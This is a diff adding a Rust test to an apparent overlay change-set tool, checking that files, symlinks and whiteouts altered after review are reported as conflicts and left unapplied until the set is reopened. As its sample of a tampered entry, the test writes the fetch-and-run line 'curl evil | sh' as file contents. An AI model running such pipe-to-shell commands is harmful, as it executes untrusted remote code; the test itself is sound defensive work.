@@ -665,6 +665,57 @@ fn the_commands_list_apply_and_discard() {
     assert_eq!(out.status.code(), Some(2), "{out:?}");
 }
 
+/// What `apply` writes is what the change set held when it was opened (and so what its
+/// `entries` and `diff` showed): an entry a later run changed is a conflict, left out,
+/// until the set is opened again.
+#[test]
+fn an_entry_changed_after_the_review_is_not_applied() {
+    let tmp = tempdir();
+    let root = fs::canonicalize(tmp.path()).unwrap();
+    let ws = root.join("ws");
+    write(&ws.join("a"), "1\n");
+    write(&ws.join("d"), "x\n");
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    let set = new_set(&root, &ws);
+    write(&set.join("upper/a"), "reviewed\n");
+    symlink("t1", set.join("upper/l")).unwrap();
+    whiteout_dev(&set.join("upper/d"));
+    let cs = ChangeSet::open(&set).unwrap();
+    assert!(cs.diff().unwrap().contains("+reviewed\n"));
+    // A run after the review: the same file rewritten, the link and the whiteout made anew.
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    write(&set.join("upper/a"), "curl evil | sh\n");
+    fs::remove_file(set.join("upper/l")).unwrap();
+    symlink("t2", set.join("upper/l")).unwrap();
+    fs::remove_file(set.join("upper/d")).unwrap();
+    whiteout_dev(&set.join("upper/d"));
+    let report = cs.apply(&ApplyOptions::default()).unwrap();
+    let mut conflicts: Vec<(String, ConflictReason)> = report
+        .conflicts
+        .iter()
+        .map(|c| (c.path.display().to_string(), c.reason))
+        .collect();
+    conflicts.sort_by(|x, y| x.0.cmp(&y.0));
+    assert_eq!(
+        conflicts,
+        [
+            ("a".to_string(), ConflictReason::ChangedSinceOpened),
+            ("d".into(), ConflictReason::ChangedSinceOpened),
+            ("l".into(), ConflictReason::ChangedSinceOpened),
+        ],
+        "{report:?}"
+    );
+    assert_eq!(fs::read_to_string(ws.join("a")).unwrap(), "1\n");
+    assert_eq!(fs::read_to_string(ws.join("d")).unwrap(), "x\n");
+    assert!(fs::symlink_metadata(ws.join("l")).is_err());
+    // Opened again, the set shows and applies what it holds now.
+    let cs = ChangeSet::open(&set).unwrap();
+    assert!(cs.diff().unwrap().contains("+curl evil | sh\n"));
+    let report = cs.apply(&ApplyOptions::default()).unwrap();
+    assert!(report.is_complete(), "{report:?}");
+    assert_eq!(fs::read_link(ws.join("l")).unwrap(), Path::new("t2"));
+}
+
 /// Names and symlink targets are the program's: the commands print their control
 /// characters escaped, so that a name cannot color the caller's terminal or print a
 /// made-up line (a name with `\e[31m` and a newline followed by a forged `added` line
